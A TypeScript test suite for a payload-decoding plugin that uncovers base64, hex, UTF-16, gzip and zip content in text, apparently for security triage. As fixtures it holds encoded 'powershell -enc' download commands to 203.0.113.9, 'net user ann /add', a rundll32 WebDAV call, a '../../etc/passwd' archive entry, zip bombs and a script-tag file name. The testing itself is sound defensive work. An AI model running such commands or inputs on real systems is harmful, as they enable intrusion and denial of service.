import { gzipSync } from 'node:zlib';
import { decodeText, type DecodeLimits } from '@pivotkit/plugin-decode';
import fc from 'fast-check';
import { zipSync } from 'fflate';
import { createTar } from 'nanotar';
import { describe, expect, test } from 'vitest';

const base64 = (text: string | Uint8Array): string => Buffer.from(text).toString('base64');
const url = (text: string): string => Buffer.from(text).toString('base64url');
const hex = (text: string): string => Buffer.from(text).toString('hex');
const utf16 = (text: string): Buffer => Buffer.from(text, 'utf16le');

const found = (text: string, limits: Partial<DecodeLimits> = {}): (string | null)[] =>
  decodeText(text, limits).items.map((item) => item.text ?? null);

const secret = 'Invoke-WebRequest http://203.0.113.9/a';

test.each([
  ['base64', `echo ${base64(secret)} | x`, 'base64', 'utf-8'],
  ['base64 without padding', base64('no padding at its end').replaceAll('=', ''), 'base64', 'utf-8'],
  ['what PowerShell takes', `powershell -enc ${base64(utf16(secret))}`, 'base64', 'utf-16'],
  [
    'UTF-16 with a byte-order mark',
    base64(Buffer.concat([Buffer.from([0xff, 0xfe]), utf16('日本語のテキスト')])),
    'base64',
    'utf-16',
  ],
  ['base64 of URLs', `t=${url('is it? ~~~ yes >>> it is')}`, 'base64url', 'utf-8'],
  ['hexadecimal', `xxd -r ${hex(secret)}`, 'hex', 'utf-8'],
  [
    'bytes of source code',
    `"${Array.from(Buffer.from(secret), (byte) => `\\x${byte.toString(16).padStart(2, '0')}`).join('')}"`,
    'hex',
    'utf-8',
  ],
  [
    'a list of bytes',
    Array.from(Buffer.from('net user ann /add'), (byte) => `0x${byte.toString(16)}`).join(', '),
    'hex',
    'utf-8',
  ],
  ['base32', 'x JBSWY3DPEBLW64TMMQQHO2LUNAQDGMRA y', 'base32', 'utf-8'],
])('%s', (_, text, encoding, textEncoding) => {
  const { items } = decodeText(text);
  expect(items).toHaveLength(1);
  expect(items[0]).toMatchObject({ encoding, textEncoding, depth: 1, reference: '1', problem: undefined });
});

test('folded over lines as mail and keys are', () => {
  const text =
    'a text that is long enough to be folded over more than two lines of seventy-six characters each, as mail does it';
  const folded = base64(text).replaceAll(/.{40}(?=.)/g, '$&\r\n');
  expect(found(`-----BEGIN-----\n${folded}\n-----END-----`)).toEqual([text]);
});

test('nested, each with its place', () => {
  const inner = base64('the innermost of three');
  const { text, items } = decodeText(`a ${base64(`b ${base64(`c ${inner}`)}`)} d ${base64('and another one')}`);
  expect(items.map(({ reference, depth }) => [reference, depth])).toEqual([
    ['1', 1],
    ['1.1', 2],
    ['1.1.1', 3],
    ['2', 1],
  ]);
  expect(text).toContain(
    "<decoded type='string' name='[None]' index='1.1.1' depth='3'>the innermost of three</decoded>",
  );
});

test('inside of percent encoding', () => {
  expect(found(`GET /?q=${encodeURIComponent(`${base64(secret)}&x=1 2`)}`)).toEqual([
    expect.stringContaining('q='),
    secret,
  ]);
  expect(found('GET /a%20b%20c/d%2Fe')).toEqual([]);
});

describe('archives', () => {
  const files = {
    'a.txt': Buffer.from('first file'),
    'dir/b.bin': Buffer.from([0, 1, 2, 250]),
    '../../etc/passwd': Buffer.from('root stays data'),
  };

  test('gzip, with the name it says', () => {
    expect(decodeText(base64(gzipSync('a text that was compressed'))).items[0]).toMatchObject({
      fileType: 'gz',
      fileName: 'gzip_file',
      text: 'a text that was compressed',
    });
  });

  test.each([
    ['zip', '../../etc/passwd', base64(zipSync(files))],
    // The reader of tar takes what leads upward out of names.
    ['tar', 'etc/passwd', base64(createTar(Object.entries(files).map(([name, data]) => ({ name, data }))))],
  ])('%s: every file, names as they are said', (type, upward, text) => {
    const { items } = decodeText(text);
    expect(
      items.map(({ fileName, fileType, text: content, reference }) => [fileName, fileType, content, reference]),
    ).toEqual([
      ['a.txt', type, 'first file', '1.1'],
      ['dir/b.bin', type, undefined, '1.2'],
      [upward, type, 'root stays data', '1.3'],
    ]);
  });

  test('in archives in archives, and base64 in them', () => {
    const text = base64(gzipSync(base64(zipSync({ 'x.ps1': Buffer.from(base64(utf16(secret))) }))));
    expect(found(text).at(-1)).toBe(secret);
  });

  test.each([
    ['gzip', base64(gzipSync(Buffer.alloc(30_000_000)))],
    ['zip', base64(zipSync({ zeros: new Uint8Array(30_000_000) }))],
    [
      'zip of many files',
      base64(zipSync(Object.fromEntries(Array.from({ length: 600 }, (_, i) => [`f${String(i)}`, Buffer.from('x')])))),
    ],
  ])('a bomb is refused and said: %s', (_, bomb) => {
    const { items } = decodeText(bomb);
    expect(items).toHaveLength(1);
    expect(items[0]?.problem).toMatch(/which is refused$/);
  });

  test('many small ones share one limit', () => {
    const one = base64(gzipSync(Buffer.alloc(900_000, 'abcdefgh ')));
    const { items } = decodeText(Array.from({ length: 40 }, () => one).join(' '), { maxBytes: 5_000_000 });
    expect(items.filter(({ problem }) => problem === undefined)).toHaveLength(5);
    expect(items.filter(({ problem }) => problem?.endsWith('refused'))).toHaveLength(35);
  });

  test('a zip that lies about its sizes, and broken ones, are no crash', () => {
    const zip = Buffer.from(zipSync({ 'a.txt': Buffer.from('x'.repeat(5_000)) }));
    const directory = zip.indexOf('PK\x01\x02', 0, 'latin1');
    zip.writeUInt32LE(5, directory + 24);
    for (const bytes of [
      zip,
      zip.subarray(0, 40),
      gzipSync('hello hello').subarray(0, 20),
      Buffer.from('PK\x03\x04garbage garbage'),
    ])
      expect(() => decodeText(base64(bytes))).not.toThrow();
    expect(decodeText(base64(gzipSync('hello hello hello').subarray(0, 24))).items[0]?.problem).toBe(
      'the gz is broken',
    );
  });
});

test.each([
  ['a path', '/usr/share/something/very/long/path/with/only/letters/inside'],
  ['a path of Windows', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'],
  [
    'hashes',
    'md5 81ed03caf6901e444c72ac67d192fb9c sha256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
  ],
  ['a UUID', '6ba7b810-9dad-41d1-80b4-00c04fd430c8'],
  ['one letter', 'a'.repeat(64)],
  ['a long word', 'Microsoft.Exchange.Management.PowerShell.SnapIn Get-MailboxFolderStatistics'],
  ['a name of an assembly', 'System.Management.Automation.InvocationInfo.ScriptLineNumber'],
  ['words in capitals', 'ADMINISTRATIVEPRIVILEGES AND ENVIRONMENTVARIABLES'],
  ['a command line', 'rundll32.exe C:\\Windows\\system32\\davclnt.dll,DavSetCookie 203.0.113.9 http://203.0.113.9/x'],
  ['nothing', ''],
])('what only looks encoded is left: %s', (_, text) => {
  expect(decodeText(text)).toEqual({ text, items: [] });
});

test('binary data is taken for what it is, with its type where that is known', () => {
  const bytes = Buffer.from(Array.from({ length: 96 }, (_, i) => (i * 151 + 89) % 256));
  expect(decodeText(base64(bytes)).items[0]).toMatchObject({
    textEncoding: 'binary',
    fileType: undefined,
    text: undefined,
  });
  const exe = 'TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA';
  expect(decodeText(exe).items[0]).toMatchObject({ fileType: 'exe' });
  expect(found(base64('MZ is how this text begins, and it is no program'))).toEqual([
    'MZ is how this text begins, and it is no program',
  ]);
});

test('whatever is encoded is found and comes back as it was', () => {
  const words = fc.stringMatching(/^[A-Za-z][A-Za-z0-9 .,:/-]{20,120}$/);
  fc.assert(
    fc.property(
      words,
      fc.constantFrom(
        base64,
        hex,
        (text: string) => base64(utf16(text)),
        (text: string) => base64(gzipSync(text)),
      ),
      (text, encode) => {
        expect(found(`run "${encode(text)}" now`)[0]).toBe(text);
      },
    ),
  );
});

test('any text at all: no throw, what is around stays', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary', maxLength: 400 }), (text) => {
      const { items, text: shown } = decodeText(text);
      if (items.length === 0) expect(shown).toBe(text);
    }),
  );
});

describe('fragments that touch each other', () => {
  const [one, other] = ['first of them, yes', 'second of them, yes'].map((text) => `${text}${'!'.repeat(3 - (text.length % 3))}x`); // prettier-ignore
  test.each([
    ['base64', base64],
    ['base64 of URLs', (text: string) => `${url(`>>>???${text}`)}==`],
  ])('%s behind padding is read from its first character', (_, encode) => {
    const texts = found(`${encode(one ?? '')}${encode(other ?? '')}`);
    expect(texts).toHaveLength(2);
    expect(texts[0]).toContain(one);
    expect(texts[1]).toContain(other);
  });
});

describe('hostile texts end soon', () => {
  test.each([
    ['10 MB of one letter', 'A'.repeat(10_000_000)],
    ['10 MB of the alphabet', 'Ab1+'.repeat(2_500_000)],
    ['10 MB of percent signs', '%41'.repeat(3_000_000)],
    ['10 MB of lines', 'QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZn\n'.repeat(200_000)],
    ['5 MB of broken pairs', '\ud800='.repeat(2_500_000)],
    ['10 MB of escapes', '\\x4'.repeat(2_500_000)],
  ])('%s', { timeout: 15_000 }, (_, text) => {
    expect(() => decodeText(text)).not.toThrow();
  });

  test('nested deeper than allowed stays as it is', () => {
    let text = 'the innermost text of them all';
    for (let i = 0; i < 12; i++) text = base64(text);
    expect(decodeText(text, { maxDepth: 3 }).items).toHaveLength(3);
    expect(decodeText(text).items).toHaveLength(12);
  });

  test('no more things than allowed', () => {
    const text = Array.from({ length: 100 }, (_, i) => base64(`fragment number ${String(i)} of many`)).join(' ');
    expect(decodeText(text, { maxItems: 7 }).items).toHaveLength(7);
  });

  test('a name in an archive cannot end its tag', () => {
    const { text } = decodeText(
      base64(gzipSync('x')) + base64(zipSync({ "'><script>": Buffer.from('a text in a file') })),
    );
    expect(text).not.toContain('<script>');
  });
});
